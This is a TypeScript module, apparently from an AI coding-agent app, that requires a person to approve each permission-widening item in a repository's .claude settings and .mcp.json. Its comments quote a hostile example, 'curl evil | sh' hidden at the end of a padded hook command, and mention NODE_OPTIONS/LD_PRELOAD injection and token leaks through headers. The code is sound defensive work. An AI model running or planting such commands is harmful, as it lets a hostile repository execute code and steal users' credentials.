import { copyFileSync, realpathSync } from 'node:fs';
import path from 'node:path';
import { z } from 'zod';
import type { TrustItem, TrustItemKind } from '@shared/domain/trust';
import { readJsonFile, writeJsonFileAtomic } from '../../platform/json-file';
import { readJsonObject, readSettingsFile, type ParsedSettings } from './settings-file';

/**
 * Workspace trust. A repository ships its own `.claude/settings.json` and `.claude/settings.local.json`
 * (a hostile one can commit both), and `.mcp.json`. Whatever in them *widens* what the agent may do —
 * allow rules, the sandbox switched off or loosened, hooks, MCP servers, environment variables, an API
 * key helper, a permissive default mode — applies only once a person has accepted that very item for
 * that folder. Deny and ask rules (which only restrict) always apply.
 *
 * Trust is kept per item, by content: accepting a folder records the keys of the items it had then,
 * so a rule added to the file afterwards is a new key and is asked about again.
 */

/**
 * Stable keys of the widening items; the loader and the prompt must compute them the same way. A key
 * built from more than one untrusted part spells them as one JSON array, so no two different items
 * share a key (with `a:b` joined by separators, matcher `a:b` + command `c` was matcher `a` + command
 * `b:c`). A key with a single untrusted part is its fixed prefix and that part, unambiguous as is.
 */
export const trustKey = {
  allow: (rule: string) => `allow:${rule}`,
  additionalDirectory: (dir: string) => `additionalDirectories:${dir}`,
  sandboxDisabled: 'sandbox.enabled:false',
  autoAllowBash: 'sandbox.autoAllowBashIfSandboxed:true',
  excludedCommand: (command: string) => `sandbox.excludedCommands:${command}`,
  allowedDomain: (domain: string) => `sandbox.network.allowedDomains:${domain}`,
  /** The whole handler object, so any change to it (type, timeout, command) is a new key. */
  hook: (event: string, matcher: string, handler: unknown) =>
    `hook:${JSON.stringify([event, matcher, handler])}`,
  mcpServer: (name: string, config: unknown) => `mcp:${JSON.stringify([name, config])}`,
  mcpEnabled: (name: string) => `enabledMcpjsonServers:${name}`,
  mcpEnableAll: 'enableAllProjectMcpServers:true',
  env: (name: string, value: string) => `env:${JSON.stringify([name, value])}`,
  apiKeyHelper: (command: string) => `apiKeyHelper:${command}`,
  /** A project switching an installed plugin on or off (off too: it could switch off a guard hook). */
  plugin: (id: string, enabled: boolean) => `enabledPlugins:${JSON.stringify([id, enabled])}`,
};

/** The project-controlled files, relative to the project root. */
export const PROJECT_SETTINGS_FILES = ['.claude/settings.json', '.claude/settings.local.json'] as const;
export const PROJECT_MCP_FILE = '.mcp.json';

/**
 * A label cut for the dialog. A repository can pad a hook command or a server entry so that what
 * matters sits past the cut (`…; curl evil | sh`), so a cut label says so, with how much is hidden
 * and where to read it whole: the person never mistakes a head for the whole.
 */
const short = (text: string, max = 1000) =>
  text.length > max
    ? `${text.slice(0, max)}… [${(text.length - max).toLocaleString('en-US')} more characters not shown: read the file before trusting]`
    : text;

/**
 * A server in words, with everything that changes what it does: its environment (`NODE_OPTIONS`,
 * `LD_PRELOAD` turn a known command into the repository's code) and its headers (`${TOKEN}` in one
 * sends your token to that address), as written, so `${VAR}` shows.
 */
function describeServer(config: unknown): string {
  if (typeof config !== 'object' || config === null) return JSON.stringify(config);
  const c = config as Record<string, unknown>;
  const pairs = (key: string, sep: string) => {
    const v = c[key];
    if (typeof v !== 'object' || v === null || Array.isArray(v)) return '';
    const shown = Object.entries(v).map(
      ([k, x]) => `${k}${sep}${typeof x === 'string' ? x : JSON.stringify(x)}`,
    );
    return shown.length > 0 ? `; ${key} ${shown.join(', ')}` : '';
  };
  if (typeof c['command'] === 'string') {
    const args = Array.isArray(c['args']) ? c['args'].map(String).join(' ') : '';
    return `runs ${c['command']}${args ? ` ${args}` : ''}${pairs('env', '=')}`;
  }
  if (typeof c['url'] === 'string') return `connects to ${c['url']}${pairs('headers', ': ')}`;
  return JSON.stringify(config);
}

/** The widening items of one parsed settings file. */
export function wideningItems(s: ParsedSettings, file: string): TrustItem[] {
  const items: TrustItem[] = [];
  const add = (kind: TrustItemKind, key: string, label: string) =>
    items.push({ kind, key, file, label: short(label) });
  for (const rule of s.allow) add('allow', trustKey.allow(rule), `Allow ${rule}`);
  for (const dir of s.additionalDirectories)
    add('allow', trustKey.additionalDirectory(dir), `Extra working directory: ${dir}`);
  if (s.sandbox.enabled === false)
    add('sandbox', trustKey.sandboxDisabled, 'Sandbox off: commands run without the OS sandbox');
  if (s.sandbox.autoAllowBashIfSandboxed === true)
    add('sandbox', trustKey.autoAllowBash, 'Sandboxed commands run without asking');
  for (const c of s.sandbox.excludedCommands)
    add('sandbox', trustKey.excludedCommand(c), `Runs outside the sandbox: ${c}`);
  for (const d of s.sandbox.allowedDomains)
    add('sandbox', trustKey.allowedDomain(d), `Network allowed to ${d}`);
  for (const h of s.hooks)
    add(
      'hook',
      trustKey.hook(h.event, h.matcher, h.handler),
      `${h.event} hook${h.matcher ? ` (${h.matcher})` : ''}: ${h.command}`,
    );
  for (const [name, config] of Object.entries(s.mcpServers))
    add('mcp', trustKey.mcpServer(name, config), `MCP server "${name}": ${describeServer(config)}`);
  for (const name of s.enabledMcpjsonServers)
    add('mcp', trustKey.mcpEnabled(name), `Enables MCP server "${name}" from .mcp.json`);
  if (s.enableAllProjectMcpServers)
    add('mcp', trustKey.mcpEnableAll, 'Enables every MCP server in .mcp.json');
  for (const [name, value] of Object.entries(s.env))
    add('env', trustKey.env(name, value), `Environment: ${name}=${value}`);
  if (s.apiKeyHelper !== undefined)
    add('apiKeyHelper', trustKey.apiKeyHelper(s.apiKeyHelper), `API key helper runs: ${s.apiKeyHelper}`);
  for (const [id, on] of Object.entries(s.enabledPlugins))
    add('plugin', trustKey.plugin(id, on), `Turns ${on ? 'on' : 'off'} plugin ${id} (if you installed it)`);
  return items;
}

/** Everything the project's own files would widen, file by file (unreadable files widen nothing). */
export function projectWideningItems(projectRoot: string): TrustItem[] {
  const items: TrustItem[] = [];
  for (const rel of PROJECT_SETTINGS_FILES) {
    const read = readSettingsFile(path.join(projectRoot, rel));
    if (read.kind === 'ok') items.push(...wideningItems(read.settings, rel));
  }
  const mcp = readJsonObject(path.join(projectRoot, PROJECT_MCP_FILE));
  if (mcp.kind === 'ok') {
    const servers = mcp.value['mcpServers'];
    if (typeof servers === 'object' && servers !== null && !Array.isArray(servers))
      for (const [name, config] of Object.entries(servers))
        items.push({
          kind: 'mcp',
          key: trustKey.mcpServer(name, config),
          file: PROJECT_MCP_FILE,
          // The environment and headers at the end are part of the label (describeServer).
          label: short(`MCP server "${name}": ${describeServer(config)}`),
        });
  }
  // The same item in both files is one decision.
  const seen = new Set<string>();
  return items.filter((i) => !seen.has(i.key) && seen.add(i.key));
}

/** Where trust decisions are kept: `trust.json` in the data folder (`~/.carapace` or CARAPACE_HOME). */
export function trustFile(dataHome: string): string {
  return path.join(dataHome, 'trust.json');
}

/** What the permission loader needs: the accepted items of a folder, and a way to accept one. */
export interface TrustLookup {
  accepted(projectRoot: string): ReadonlySet<string>;
  /** Records items a person accepted themselves (e.g. the rule an "Always allow" just wrote). */
  accept(projectRoot: string, keys: readonly string[]): void;
}

const FolderTrust = z.object({
  accepted: z.array(z.string()).default([]),
  declined: z.array(z.string()).default([]),
  updatedAt: z.string(),
});
const TrustFile = z.object({
  folders: z.record(z.string(), FolderTrust).default({}),
});
type TrustFile = z.infer<typeof TrustFile>;

/** A folder is keyed by its real path, so a symlink or `..` cannot stand in for a trusted one. */
export function trustPath(folder: string): string {
  try {
    return realpathSync(folder);
  } catch {
    return path.resolve(folder);
  }
}

export interface FolderTrustRecord {
  path: string;
  accepted: string[];
  declined: string[];
  updatedAt: string;
}

/**
 * Trust decisions in `<data folder>/trust.json`, re-read on every question so a decision made in the
 * app applies at once to running sessions and to `carapace -p`.
 */
export class TrustStore implements TrustLookup {
  constructor(readonly file: string) {}

  private read(): TrustFile {
    const read = readJsonFile(this.file, TrustFile);
    return read.kind === 'ok' ? read.value : { folders: {} };
  }

  private change(
    folder: string,
    edit: (current: FolderTrustRecord | null) => FolderTrustRecord | null,
  ): void {
    const read = readJsonFile(this.file, TrustFile);
    // A broken file is kept aside, never overwritten silently; losing it only means asking again.
    if (read.kind === 'invalid') copyFileSync(this.file, `${this.file}.invalid-${Date.now()}`);
    const data: TrustFile = read.kind === 'ok' ? read.value : { folders: {} };
    const key = trustPath(folder);
    const existing = data.folders[key];
    const next = edit(existing ? { path: key, ...existing } : null);
    const folders = { ...data.folders };
    if (next) folders[key] = { accepted: next.accepted, declined: next.declined, updatedAt: next.updatedAt };
    else delete folders[key];
    writeJsonFileAtomic(this.file, { ...data, folders }, 0o600);
  }

  get(folder: string): FolderTrustRecord | null {
    const key = trustPath(folder);
    const entry = this.read().folders[key];
    return entry ? { path: key, ...entry } : null;
  }

  accepted(folder: string): ReadonlySet<string> {
    return new Set(this.get(folder)?.accepted ?? []);
  }

  accept(folder: string, keys: readonly string[]): void {
    this.change(folder, (c) => ({
      path: trustPath(folder),
      accepted: [...new Set([...(c?.accepted ?? []), ...keys])],
      declined: (c?.declined ?? []).filter((k) => !keys.includes(k)),
      updatedAt: new Date().toISOString(),
    }));
  }

  /**
   * "Trust" as the dialog asked it: of the keys it showed, those the folder still has are accepted,
   * with what was accepted before and is still there. Anything that appeared since the dialog was built
   * stays pending (and is asked about), however the files changed in between. Items accepted earlier
   * that have since left the files are dropped, so putting one back is asked about again.
   */
  trustShown(folder: string, shown: readonly string[]): void {
    const current = projectWideningItems(trustPath(folder)).map((i) => i.key);
    const shownKeys = new Set(shown);
    this.change(folder, (c) => {
      const before = new Set(c?.accepted ?? []);
      const accepted = current.filter((k) => before.has(k) || shownKeys.has(k));
      const declined = (c?.declined ?? []).filter((k) => current.includes(k) && !accepted.includes(k));
      return { path: trustPath(folder), accepted, declined, updatedAt: new Date().toISOString() };
    });
  }

  /** Trusts every item the folder has now (what a test or a script means by "trusted"; not the dialog). */
  trustCurrent(folder: string): void {
    this.trustShown(
      folder,
      projectWideningItems(trustPath(folder)).map((i) => i.key),
    );
  }

  /**
   * "Don't trust" as the dialog asked it: the keys it showed that the folder still has and nobody
   * accepted are remembered as declined, so the prompt stops asking about them (and only them).
   */
  declineShown(folder: string, shown: readonly string[]): void {
    const current = new Set(projectWideningItems(trustPath(folder)).map((i) => i.key));
    this.change(folder, (c) => {
      const accepted = c?.accepted ?? [];
      const keys = shown.filter((k) => current.has(k) && !accepted.includes(k));
      return {
        path: trustPath(folder),
        accepted,
        declined: [...new Set([...(c?.declined ?? []), ...keys])],
        updatedAt: new Date().toISOString(),
      };
    });
  }

  /** Declines every item the folder has now that is not accepted (tests and scripts; not the dialog). */
  declineCurrent(folder: string): void {
    this.declineShown(
      folder,
      projectWideningItems(trustPath(folder)).map((i) => i.key),
    );
  }

  revoke(folder: string): void {
    this.change(folder, () => null);
  }

  list(): FolderTrustRecord[] {
    return Object.entries(this.read().folders)
      .map(([p, e]) => ({ path: p, ...e }))
      .sort((a, b) => a.path.localeCompare(b.path));
  }
}

export interface ProjectTrustState {
  /** Every widening item in the folder's files, each with whether it is accepted. */
  items: (TrustItem & { state: 'accepted' | 'declined' | 'pending' })[];
  /** Items nobody has decided on yet: the prompt shows when there are any. */
  pending: number;
}

export function projectTrustState(store: TrustStore, projectRoot: string): ProjectTrustState {
  const entry = store.get(projectRoot);
  const accepted = new Set(entry?.accepted ?? []);
  const declined = new Set(entry?.declined ?? []);
  const items = projectWideningItems(projectRoot).map((i) => ({
    ...i,
    state: accepted.has(i.key)
      ? ('accepted' as const)
      : declined.has(i.key)
        ? ('declined' as const)
        : ('pending' as const),
  }));
  return { items, pending: items.filter((i) => i.state === 'pending').length };
}
